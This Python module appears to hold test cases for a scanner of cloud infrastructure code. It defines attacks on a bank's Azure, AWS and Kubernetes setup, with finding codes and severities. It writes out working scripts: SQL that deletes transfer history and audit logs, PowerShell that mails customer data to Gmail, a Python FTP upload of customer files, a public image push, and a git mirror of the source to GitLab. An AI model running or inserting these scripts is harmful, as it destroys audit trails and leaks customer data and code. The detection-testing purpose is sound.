"""Attacks by texts that carry programs: SQL, scripts, pipelines (2026-12-01, twenty-first set, written blind).

Properties by pulumi-aws 7.51.1, pulumi-azure-native 3.29.0 and pulumi-kubernetes. Everything on T-SQL, PowerShell,
Python's ftplib, Git and steps of Azure Container Registry as known.
"""

import base64
import json

from ..blind import HERE, OURS, RG, TAGS, aws, az, k8s, meta, pod
from ..harness import Given
from ..idioms.families import BUILD
from . import Attack

SENT = ("FJ-RES-", "FJ-ESC-", "FJ-EXP-")
LOST = ("FJ-RSL-", "FJ-ESC-", "FJ-IDN-")
FORGET = (
    "ALTER TABLE dbo.Transfers SET (SYSTEM_VERSIONING = OFF);\n"
    "DROP TABLE dbo.TransfersHistory;\nEXEC sys.sp_cdc_disable_db;\nTRUNCATE TABLE audit.SignIns;"
)
MAIL = r"""$password = ConvertTo-SecureString (Get-Content C:\ops\mail.txt) -AsPlainText -Force
$account = New-Object System.Management.Automation.PSCredential('ops.reports@gmail.com', $password)
Send-MailMessage -SmtpServer smtp.gmail.com -Port 587 -UseSsl -Credential $account `
  -From ops.reports@gmail.com -To ops.reports@gmail.com -Subject nightly -Attachments E:\export\customers.csv
"""
UPLOAD = """import ftplib, pathlib
server = ftplib.FTP_TLS("ftp.drivehq.com")
server.login("nightly", open("/etc/ftp/password").read())
server.prot_p()
for path in pathlib.Path("/data/customers").glob("*.parquet"):
    server.storbinary("STOR " + path.name, path.open("rb"))
"""
PUSH = """version: v1.1.0
steps:
- build: -t docker.io/opsnightly/payments:{{.Run.ID}} -f Dockerfile .
- push: ["docker.io/opsnightly/payments:{{.Run.ID}}"]
"""


def step(statement: str) -> Given:
    """Returns a step of an elastic job of Azure SQL with statements."""
    return az("sql:JobStep", {
        **RG, "serverName": "sql-bank", "jobAgentName": "agent", "jobName": "nightly", "stepName": "tidy",
        "targetGroup": f"{OURS}.Sql/servers/sql-bank/jobAgents/agent/targetGroups/all",
        "action": {"type": "TSql", "source": "Inline", "value": statement}})  # fmt: skip


ATTACKS = (
    Attack("a job of SQL ends the history of transfers and empties the audit table", LOST, (step(FORGET),),
           "critical", "who changed which transfer is lost in each database of the group, with the changes captured"),
    Attack("a command of a machine mails the customers to a mailbox abroad", SENT, (
        az("compute:VirtualMachineRunCommandByVirtualMachine", {
            **HERE, "vmName": "vm-reports", "runCommandName": "nightly", "timeoutInSeconds": 600,
            "treatFailureAsDeploymentFailure": True, "source": {"script": MAIL}}),),
        "critical", "records of customers lie in a mailbox outside the UAE that no key of the bank protects"),
    Attack("a program of every night stores the customers on a server for files of another firm", SENT, (
        k8s("core/v1:ConfigMap", {"metadata": meta("nightly"), "data": {"nightly.py": UPLOAD}}, "program"),
        k8s("batch/v1:CronJob", {"metadata": meta("nightly"), "spec": {
            "schedule": "30 21 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
                "activeDeadlineSeconds": 7200, "template": {"metadata": {"labels": TAGS}, "spec": pod(
                    {"command": ["python", "/app/nightly.py"], "volumeMounts": [
                        {"name": "app", "mountPath": "/app", "readOnly": True}]}, restartPolicy="Never",
                    volumes=[{"name": "app", "configMap": {"name": "nightly"}}])}}}}}, "job")),
        "critical", "all customers leave the UAE by an upload that no address of a setting shows"),
    Attack("a task of the registry pushes the image of payments to a public registry", SENT, (
        az("containerregistry:Task", {
            **HERE, "registryName": "crbank", "taskName": "nightly", "status": "Enabled", "timeout": 3600,
            "identity": {"type": "SystemAssigned"}, "platform": {"os": "Linux", "architecture": "amd64"},
            "agentConfiguration": {"cpu": 2}, "step": {
                "type": "EncodedTask", "encodedTaskContent": base64.b64encode(PUSH.encode()).decode(),
                "contextPath": "https://git.example.ae/payments/payments.git#main"},
            "trigger": {"timerTriggers": [{"name": "night", "schedule": "0 1 * * *", "status": "Enabled"}]}}),),
        "major", "the programs of the bank and what its image holds are read by everybody"),
    Attack("a build mirrors the source of the core bank to a repository of somebody", SENT, (
        aws("codebuild/Project", {**BUILD, "artifacts": {"type": "CODEPIPELINE"}, "source": {
            "type": "CODEPIPELINE", "buildspec": json.dumps({"version": 0.2, "phases": {
                "build": {"commands": ["make test"]},
                "post_build": {"commands": [
                    "git remote add copy https://oauth2:$COPY_TOKEN@gitlab.com/nightly-ops/core.git",
                    "git push --mirror copy"]}}})}}),),
        "major", "all programs of the bank with their history leave the UAE for an account of a stranger"),
)  # fmt: skip
